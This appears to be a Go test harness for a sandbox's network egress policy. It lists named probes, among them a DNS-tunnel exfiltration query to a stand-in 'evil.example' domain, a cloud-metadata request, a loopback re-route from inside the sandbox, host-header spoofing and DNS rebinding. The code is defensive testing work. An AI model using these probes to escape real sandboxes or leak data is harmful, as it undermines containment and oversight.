// Package reach is a small world of services, and what a command may try to reach
// them although it may not: each try reaches something where nothing is in its
// way, which is its control. The world's addresses are those of documentation.
package reach

import (
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	mdns "github.com/miekg/dns"

	"github.com/sbx-sandbox/sbx/slirp/tun"
)

// Env is where tries are made.
type Env struct {
	Resolver string   // ADDRESS:53
	Gateways []string // with a port, inside
	Inside   bool
	Device   int // the TUN device, inside
}

// Result is what a try came to.
type Result struct {
	Text  string        `json:"text"`
	Error string        `json:"error"`
	Took  time.Duration `json:"took"`
}

// Reached reports whether it reached anything.
func (r Result) Reached() bool { return r.Error == "" }

// try is one thing that a command may do. What it returns is only told if
// something is amiss.
type try func(*Env) (string, error)

// Run makes tries, by their names.
func (e *Env) Run(names []string) map[string]Result {
	all := map[string]Result{}
	for _, name := range names {
		do, ok := tries[name]
		if !ok {
			all[name] = Result{Error: "there is no such try"}
			continue
		}
		began := time.Now()
		text, err := do(e)
		r := Result{Text: text, Took: time.Since(began)}
		if err != nil {
			r.Error = err.Error()
		}
		all[name] = r
	}
	return all
}

// Patience is for machines with much else to do: what is refused is refused at
// once, and what is reached needs it only then.
const Patience = 15 * time.Second

// Settle waits until the links are in service: the kernel begins to use an
// interface by IPv6 up to a second after it is up, and asks for a neighbour once a
// second.
func (e *Env) Settle() error {
	probes := []string{"198.51.100.10:80", "[2001:db8::10]:80"}
	if e.Inside {
		probes = e.Gateways // denied, which is an answer too
	}
	for _, to := range probes {
		for end := time.Now().Add(2 * Patience); ; time.Sleep(20 * time.Millisecond) {
			c, err := net.DialTimeout("tcp", to, time.Second)
			if err == nil {
				c.Close()
			}
			if err == nil || errors.Is(err, syscall.ECONNREFUSED) {
				break
			}
			if time.Now().After(end) {
				return fmt.Errorf("waiting for %s: %w", to, err)
			}
		}
	}
	return nil
}

func (e *Env) dial(ctx context.Context, network, addr string) (net.Conn, error) {
	r := &net.Resolver{PreferGo: true, Dial: func(ctx context.Context, network, _ string) (net.Conn, error) {
		return (&net.Dialer{}).DialContext(ctx, network, e.Resolver)
	}}
	return (&net.Dialer{Timeout: Patience, Resolver: r}).DialContext(ctx, network, addr)
}

// get fetches a URL from an address ("": by its name), asking TLS for sni.
func get(url, at, sni, host string) try {
	return func(e *Env) (string, error) {
		c := &http.Client{Timeout: 2 * Patience, Transport: &http.Transport{
			DisableKeepAlives: true,
			TLSClientConfig:   &tls.Config{InsecureSkipVerify: true, ServerName: sni},
			DialContext: func(ctx context.Context, n, a string) (net.Conn, error) {
				if at != "" {
					a = at
				}
				return e.dial(ctx, n, a)
			},
		}}
		q, err := http.NewRequest("GET", url, nil)
		if err != nil {
			return "", err
		}
		q.Host = host
		r, err := c.Do(q)
		if err != nil {
			return "", err
		}
		defer r.Body.Close()
		b, err := io.ReadAll(r.Body)
		return string(b), err
	}
}

// http80 asks an address for a page without TLS.
func http80(at string) try { return get("http://"+at+"/", "", "", "") }

func udpEcho(at string) try {
	return func(e *Env) (string, error) {
		c, err := e.dial(context.Background(), "udp", at)
		if err != nil {
			return "", err
		}
		defer c.Close()
		if err := c.SetDeadline(time.Now().Add(Patience)); err != nil {
			return "", err
		}
		if _, err := c.Write([]byte("hi")); err != nil {
			return "", err
		}
		b := make([]byte, 100)
		n, err := c.Read(b)
		return string(b[:n]), err
	}
}

// ask asks a server ("": the environment's) for a name.
func ask(server, network, name string, kind uint16) try {
	return func(e *Env) (string, error) {
		at := server
		if at == "" {
			at = e.Resolver
		}
		q := new(mdns.Msg)
		q.SetQuestion(mdns.Fqdn(name), kind)
		q.SetEdns0(1232, false)
		r, _, err := (&mdns.Client{Net: network, Timeout: Patience}).Exchange(q, at)
		if err != nil {
			return "", err
		}
		var said []string
		for _, a := range r.Answer {
			said = append(said, strings.TrimPrefix(a.String(), a.Header().String()))
		}
		if o := r.IsEdns0(); o != nil {
			for _, x := range o.Option {
				if x, ok := x.(*mdns.EDNS0_EDE); ok {
					said = append(said, fmt.Sprintf("EDE %d %s", x.InfoCode, x.ExtraText))
				}
			}
		}
		text := mdns.RcodeToString[r.Rcode] + " " + strings.Join(said, " ")
		if len(r.Answer) == 0 {
			return "", errors.New(text)
		}
		return text, nil
	}
}

// loopbackByRoute takes the sandbox's own loopback address away and sends what
// is for it to the device, as somebody can who is root in the sandbox.
func loopbackByRoute(e *Env) (string, error) {
	if e.Inside {
		lo, err := tun.Index("lo")
		if err != nil {
			return "", err
		}
		if err := tun.DeleteAddress(lo, netip.MustParsePrefix("127.0.0.1/8")); err != nil {
			return "", err
		}
		if err := tun.AddRoute(e.Device, netip.MustParsePrefix("127.0.0.0/8"), netip.Addr{}); err != nil {
			return "", err
		}
	}
	return http80("127.0.0.1:5999")(e)
}

// race connects at once after each of 50 names was resolved.
func race(e *Env) (string, error) {
	failed := 0
	for i := range 50 {
		c, err := e.dial(context.Background(), "tcp", fmt.Sprintf("r%d.allowed.example:443", i))
		if err != nil {
			failed++
			continue
		}
		c.Close()
	}
	if failed > 0 {
		return "", fmt.Errorf("%d of 50 failed", failed)
	}
	return "50 of 50", nil
}

func plainOn443(e *Env) (string, error) {
	c, err := e.dial(context.Background(), "tcp", "198.51.100.10:443")
	if err != nil {
		return "", err
	}
	defer c.Close()
	if err := c.SetDeadline(time.Now().Add(Patience)); err != nil {
		return "", err
	}
	if _, err := io.WriteString(c, "GET / HTTP/1.0\r\n\r\n"); err != nil {
		return "", err
	}
	b, err := io.ReadAll(c)
	if len(b) == 0 {
		return "", fmt.Errorf("nothing came: %v", err)
	}
	return string(b), nil
}

// rawProtocol sends a packet of a protocol that is none of TCP, UDP and ICMP, and
// waits for what the world's kernel says to that.
func rawProtocol(*Env) (string, error) {
	c, err := net.Dial("ip4:132", "198.51.100.20")
	if err != nil {
		return "", err
	}
	defer c.Close()
	if _, err := c.Write(make([]byte, 32)); err != nil {
		return "", err
	}
	if err := c.SetDeadline(time.Now().Add(Patience / 10)); err != nil {
		return "", err
	}
	_, err = c.Read(make([]byte, 100))
	if err != nil && strings.Contains(err.Error(), "protocol not available") {
		return "its kernel answered", nil
	}
	return "", fmt.Errorf("nothing came: %v", err)
}

// tries are all there are. The first 27 are those of docs/NETWORK.md's table.
var tries = map[string]try{
	"01 https by name":                          get("https://allowed.example/", "", "", ""),
	"02 https by a name that is not allowed":    get("https://denied.example/", "", "", ""),
	"03 http by name":                           get("http://allowed.example/", "", "", ""),
	"04 address that is not allowed":            get("https://denied.example/", "198.51.100.20:443", "", ""),
	"05 other port of an allowed host":          http80("198.51.100.10:9999"),
	"06 port of a prefix":                       http80("198.51.100.77:22"),
	"07 other port of the prefix":               http80("198.51.100.77:9999"),
	"08 built-in server, allowed name, udp":     ask("198.51.100.53:53", "udp", "allowed.example", mdns.TypeA),
	"09 built-in server, other name, udp":       ask("198.51.100.53:53", "udp", "denied.example", mdns.TypeA),
	"10 built-in server, other name, tcp":       ask("198.51.100.53:53", "tcp", "denied.example", mdns.TypeA),
	"11 built-in server by IPv6, other name":    ask("[2001:db8::53]:53", "udp", "denied.example", mdns.TypeA),
	"12 tunnel by questions":                    ask("198.51.100.53:53", "udp", "c2VjcmV0.evil.example", mdns.TypeTXT),
	"13 labels below an allowed wildcard, A":    ask("198.51.100.53:53", "udp", "c2VjcmV0.allowed.example", mdns.TypeA),
	"14 labels below an allowed wildcard, TXT":  ask("198.51.100.53:53", "udp", "c2VjcmV0.allowed.example", mdns.TypeTXT),
	"15 DNS over HTTPS by address":              get("https://doh.example/", "198.51.100.53:443", "", ""),
	"16 https by name, IPv6":                    get("https://six.allowed.example/", "", "", ""),
	"17 IPv6 address that is not allowed":       get("https://denied.example/", "[2001:db8::20]:443", "", ""),
	"18 neighbour's name at an allowed address": get("https://neighbour.example/", "198.51.100.10:443", "", ""),
	"19 allowed name, neighbour's host header":  get("https://allowed.example/", "", "", "neighbour.example"),
	"20 no name at an allowed address":          get("https://198.51.100.10/", "", "", ""),
	"21 no TLS at an allowed address":           plainOn443,
	"22 udp by name":                            udpEcho("allowed.example:4433"),
	"23 udp to an address that is not allowed":  udpEcho("198.51.100.20:4433"),
	"24 rebinding":                              ask("", "udp", "rebind.allowed.example", mdns.TypeA),
	"25 host's loopback by the gateway":         gatewayTry,
	"26 another protocol":                       rawProtocol,
	"27 resolve and connect at once":            race,

	"host's own address":             http80(HostOwn + ":5999"),
	"host's own address, IPv6":       http80("[" + HostOwn6 + "]:5999"),
	"loopback by a route":            loopbackByRoute,
	"metadata":                       http80("169.254.169.254:80"),
	"private network":                http80("192.168.50.5:80"),
	"carrier's private network":      http80("100.64.7.7:80"),
	"unique local network":           http80("[fd77::5]:80"),
	"private network by name":        get("http://nas.example/", "", "", ""),
	"QUIC by an allowed name":        udpEcho("allowed.example:443"),
	"name with a suffix":             ask("", "udp", "allowed.example.evil.example", mdns.TypeA),
	"name with a prefix":             ask("", "udp", "notallowed.example", mdns.TypeA),
	"name with a zero byte":          ask("", "udp", `a\000b.allowed.example`, mdns.TypeA),
	"name with a dot at its end":     ask("", "udp", "allowed.example.", mdns.TypeA),
	"name in capitals":               ask("", "udp", "ALLOWED.Example", mdns.TypeA),
	"question of type HTTPS":         ask("", "udp", "allowed.example", mdns.TypeHTTPS),
	"gateway by name":                ask("", "udp", "host.sbx.internal", mdns.TypeA),
	"gateway's own name server, tcp": ask("", "tcp", "allowed.example", mdns.TypeA),
	"fetch by the gateway":           gatewayTry,
	"ping":                           ping("ip4:icmp", "198.51.100.10", Patience),
	"ping, IPv6":                     ping("ip6:ipv6-icmp", "2001:db8::10", Patience),
	"ping the gateway":               ping("ip4:icmp", "10.0.2.2", Patience),
	"ping in vain":                   ping("ip4:icmp", "198.51.100.10", time.Second),
	"ping elsewhere":                 ping("ip4:icmp", "198.51.100.20", Patience),
	"2000 at once":                   atOnce,
	"20000 one by one":               oneByOne,
	"a megabyte":                     megabyte,
	"allowed later":                  http80("198.51.100.20:9999"),
	"denied later":                   http80("198.51.100.77:22"),
}

// ping sends an echo request by a raw socket, and waits for the answer.
func ping(network, to string, patience time.Duration) try {
	return func(e *Env) (string, error) {
		patience := patience
		if !e.Inside { // where nobody has the gateway's address
			patience = time.Second
		}
		c, err := net.Dial(network, to)
		if err != nil {
			return "", err
		}
		defer c.Close()
		if err := c.SetDeadline(time.Now().Add(patience)); err != nil {
			return "", err
		}
		request, answer := byte(8), byte(0)
		if strings.HasPrefix(network, "ip6") {
			request, answer = 128, 129
		}
		m := []byte{request, 0, 0, 0, 0x12, 0x34, 0, 1, 'h', 'i'}
		if request == 8 { // the kernel computes that of IPv6
			var sum uint32
			for i := 0; i < len(m); i += 2 {
				sum += uint32(m[i])<<8 | uint32(m[i+1])
			}
			sum = ^(sum&0xffff + sum>>16)
			m[2], m[3] = byte(sum>>8), byte(sum)
		}
		if _, err := c.Write(m); err != nil {
			return "", err
		}
		b := make([]byte, 200)
		for {
			n, err := c.Read(b)
			if err != nil {
				return "", err
			}
			got := b[:n]
			if request == 8 { // with the header of IPv4, but without that of IPv6 (raw(7))
				got = got[min(int(got[0]&15)*4, n):]
			}
			if len(got) >= 10 && got[0] == answer && got[4] == 0x12 && got[5] == 0x34 && string(got[8:10]) == "hi" {
				return "answered", nil
			}
		}
	}
}

// atOnce has 2000 connections that all answer.
func atOnce(e *Env) (string, error) {
	if !e.Inside {
		return "", nil
	}
	var wg sync.WaitGroup
	errs := make(chan error, 2000)
	hold := make(chan struct{})
	slots := make(chan struct{}, 50)
	for range 2000 {
		wg.Go(func() {
			slots <- struct{}{}
			c, err := net.DialTimeout("tcp", "198.51.100.77:22", 2*Patience)
			if err == nil {
				_, err = io.WriteString(c, "GET / HTTP/1.1\r\nHost: x\r\n\r\n")
			}
			if err == nil {
				_, err = c.Read(make([]byte, 1000))
			}
			<-slots
			errs <- err
			<-hold
			if c != nil {
				c.Close()
			}
		})
	}
	failed := 0
	var last error
	for range 2000 {
		if err := <-errs; err != nil {
			failed, last = failed+1, err
		}
	}
	close(hold)
	wg.Wait()
	if failed > 0 {
		return "", fmt.Errorf("%d of 2000 failed: %w", failed, last)
	}
	return "2000", nil
}

// oneByOne makes 20000 connections by eight at a time.
func oneByOne(e *Env) (string, error) {
	if !e.Inside {
		return "", nil
	}
	var wg sync.WaitGroup
	var failed atomic.Int64
	for n := range 8 {
		wg.Go(func() {
			to := []string{"198.51.100.77:22", "198.51.100.10:80", "[2001:db8::10]:80", "198.51.100.11:80"}[n%4]
			for range 20000 / 8 {
				c, err := net.DialTimeout("tcp", to, 2*Patience)
				if err != nil {
					failed.Add(1)
					continue
				}
				_ = c.(*net.TCPConn).SetLinger(0) // ports are not used up by TIME_WAIT
				c.Close()
			}
		})
	}
	wg.Wait()
	if n := failed.Load(); n > 0 {
		return "", fmt.Errorf("%d of 20000 failed", n)
	}
	return "20000", nil
}

// megabyte sends a megabyte in datagrams and hears most of it: a link may lose
// some.
func megabyte(e *Env) (string, error) {
	c, err := net.Dial("udp", "198.51.100.10:4433")
	if err != nil {
		return "", err
	}
	defer c.Close()
	heard := 0
	b := make([]byte, 65535)
	for range 100 {
		if _, err := c.Write(make([]byte, 10000)); err != nil {
			return "", err
		}
		if err := c.SetDeadline(time.Now().Add(Patience / 15)); err != nil {
			return "", err
		}
		n, err := c.Read(b)
		if err == nil {
			heard += n
		}
	}
	if heard < 500000 {
		return "", fmt.Errorf("%d bytes of a megabyte came back", heard)
	}
	return "most of it", nil
}

// gatewayTry asks the host's service by the gateway's address; the control asks
// it where it is.
func gatewayTry(e *Env) (string, error) {
	if e.Inside {
		return http80("10.0.2.2:5999")(e)
	}
	return http80("127.0.0.1:5999")(e)
}
